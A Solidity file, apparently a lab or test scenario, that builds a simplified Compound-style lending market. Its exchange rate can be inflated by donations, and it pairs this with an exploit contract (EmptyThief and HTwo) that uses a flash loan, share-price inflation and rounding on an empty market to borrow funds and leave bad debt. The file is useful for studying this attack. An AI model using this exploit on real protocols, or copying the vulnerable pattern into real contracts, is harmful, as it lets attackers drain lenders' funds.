// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {FlashLender, IBorrower, Pool} from "../props/Markets.sol";
import {Shop} from "../props/Shop.sol";
import {Token} from "../props/Tokens.sol";

/// Judges accounts over all markets. Prices are in dollars of 18 places for 10^18 base units.
contract HTroller {
    address public admin = msg.sender;
    HToken[] public allMarkets;
    mapping(HToken => uint256) public price;
    mapping(HToken => uint256) public factor; // per cent
    address[] private accounts;
    mapping(address => bool) private known;

    event MarketListed(HToken market);
    event NewCollateralFactor(HToken market, uint256 factor);

    function _supportMarket(HToken market, uint256 price_, uint256 factor_) external {
        require(msg.sender == admin, "only admin");
        allMarkets.push(market);
        (price[market], factor[market]) = (price_, factor_);
        emit MarketListed(market);
        emit NewCollateralFactor(market, factor_);
    }

    function shortfall(address account, HToken changed, uint256 redeem, uint256 borrow) public view returns (uint256) {
        (uint256 has, uint256 owes) = (0, 0);
        for (uint256 i = 0; i < allMarkets.length; i++) {
            HToken market = allMarkets[i];
            uint256 held = market.balanceOf(account) - (market == changed ? redeem : 0);
            has += held * market.exchangeRate() / 1e18 * price[market] / 1e18 * factor[market] / 100;
            owes += (market.borrowBalance(account) + (market == changed ? borrow : 0)) * price[market] / 1e18;
        }
        return owes > has ? owes - has : 0;
    }

    function borrowAllowed(address account, uint256 amount) external {
        if (!known[account]) {
            known[account] = true;
            accounts.push(account);
        }
        require(shortfall(account, HToken(msg.sender), 0, amount) == 0, "INSUFFICIENT_LIQUIDITY");
    }

    function redeemAllowed(address account, uint256 tokens) external view {
        require(shortfall(account, HToken(msg.sender), tokens, 0) == 0, "INSUFFICIENT_LIQUIDITY");
    }

    /// What all accounts together owe beyond what they may.
    function badDebt() external view returns (uint256 sum) {
        for (uint256 i = 0; i < accounts.length; i++) sum += shortfall(accounts[i], HToken(address(0)), 0, 0);
    }
}

/// A market whose shares are worth what it holds, whoever gave it.
contract HToken {
    HTroller public immutable comptroller;
    Token public immutable underlying;
    string public symbol;
    mapping(address => uint256) public balanceOf;
    mapping(address => uint256) public borrowBalance;
    uint256 public totalSupply;
    uint256 public totalBorrows;

    event Mint(address minter, uint256 mintAmount, uint256 mintTokens);
    event Redeem(address redeemer, uint256 redeemAmount, uint256 redeemTokens);
    event Borrow(address borrower, uint256 borrowAmount, uint256 accountBorrows, uint256 totalBorrows);
    event RepayBorrow(address payer, address borrower, uint256 repayAmount, uint256 accountBorrows, uint256 totalBorrows);
    event Transfer(address indexed from, address indexed to, uint256 amount);

    constructor(HTroller comptroller_, Token underlying_, string memory symbol_) {
        (comptroller, underlying, symbol) = (comptroller_, underlying_, symbol_);
    }

    function exchangeRate() public view returns (uint256) {
        if (totalSupply == 0) return 0.02e18;
        return (underlying.balanceOf(address(this)) + totalBorrows) * 1e18 / totalSupply;
    }

    function mint(uint256 amount) external {
        uint256 tokens = amount * 1e18 / exchangeRate();
        underlying.transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += tokens;
        totalSupply += tokens;
        emit Mint(msg.sender, amount, tokens);
        emit Transfer(address(this), msg.sender, tokens);
    }

    function redeem(uint256 tokens) external {
        take(tokens, tokens * exchangeRate() / 1e18);
    }

    function redeemUnderlying(uint256 amount) external {
        take(amount * 1e18 / exchangeRate(), amount);
    }

    function transfer(address to, uint256 tokens) external returns (bool) {
        comptroller.redeemAllowed(msg.sender, tokens);
        balanceOf[msg.sender] -= tokens;
        balanceOf[to] += tokens;
        emit Transfer(msg.sender, to, tokens);
        return true;
    }

    function borrow(uint256 amount) external {
        comptroller.borrowAllowed(msg.sender, amount);
        borrowBalance[msg.sender] += amount;
        totalBorrows += amount;
        underlying.transfer(msg.sender, amount);
        emit Borrow(msg.sender, amount, borrowBalance[msg.sender], totalBorrows);
    }

    function repayBorrow(uint256 amount) external {
        underlying.transferFrom(msg.sender, address(this), amount);
        borrowBalance[msg.sender] -= amount;
        totalBorrows -= amount;
        emit RepayBorrow(msg.sender, msg.sender, amount, borrowBalance[msg.sender], totalBorrows);
    }

    function take(uint256 tokens, uint256 amount) private {
        comptroller.redeemAllowed(msg.sender, tokens);
        balanceOf[msg.sender] -= tokens;
        totalSupply -= tokens;
        underlying.transfer(msg.sender, amount);
        emit Redeem(msg.sender, amount, tokens);
        emit Transfer(msg.sender, address(this), tokens);
    }
}

/// Two shares of an empty market, a gift to it, and a withdrawal that rounds in its favour.
contract EmptyThief {
    HToken private empty;
    HToken private target;
    uint256 private loan;

    /// The coins buy what the lender wants for its loan.
    function run(
        FlashLender lender,
        Pool pool,
        HToken empty_,
        HToken target_,
        uint256 stake,
        uint256 loan_,
        address payee
    ) external payable {
        (empty, target, loan) = (empty_, target_, loan_);
        Shop.buy(pool, msg.value);
        lender.flashLoan(IBorrower(address(this)), empty_.underlying(), stake, "");
        Token got = target_.underlying();
        got.transfer(payee, got.balanceOf(address(this)));
    }

    function onFlashLoan(address, Token token, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        HTwo two = new HTwo();
        token.transfer(address(two), amount);
        two.work(empty, target, loan, amount);
        token.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

/// The account that will be left with the debt.
contract HTwo {
    function work(HToken empty, HToken target, uint256 loan, uint256 amount) external {
        Token token = empty.underlying();
        token.approve(address(empty), amount);
        empty.mint(1e6);
        empty.redeem(empty.balanceOf(address(this)) - 2);
        uint256 gift = token.balanceOf(address(this));
        token.transfer(address(empty), gift);
        target.borrow(loan);
        uint256 there = token.balanceOf(address(empty));
        empty.redeemUnderlying(there - 1);
        token.transfer(msg.sender, token.balanceOf(address(this)));
        Token got = target.underlying();
        got.transfer(msg.sender, got.balanceOf(address(this)));
    }
}

/// Turns a deposit over several times: supplies, borrows the same again by a flash loan's help, supplies that.
contract HLooper {
    address private immutable owner = msg.sender;

    function open(FlashLender lender, HToken market, HToken debt, uint256 own, uint256 loan, uint256 borrow) external {
        require(msg.sender == owner, "not the owner");
        Token token = market.underlying();
        token.transferFrom(owner, address(this), own);
        lender.flashLoan(IBorrower(address(this)), token, loan, abi.encode(market, debt, borrow));
    }

    function onFlashLoan(address, Token token, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        (HToken market, HToken debt, uint256 borrow) = abi.decode(data, (HToken, HToken, uint256));
        uint256 all = token.balanceOf(address(this));
        token.approve(address(market), all);
        market.mint(all);
        market.borrow(amount + fee);
        debt.borrow(borrow);
        Token got = debt.underlying();
        got.transfer(owner, borrow);
        token.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
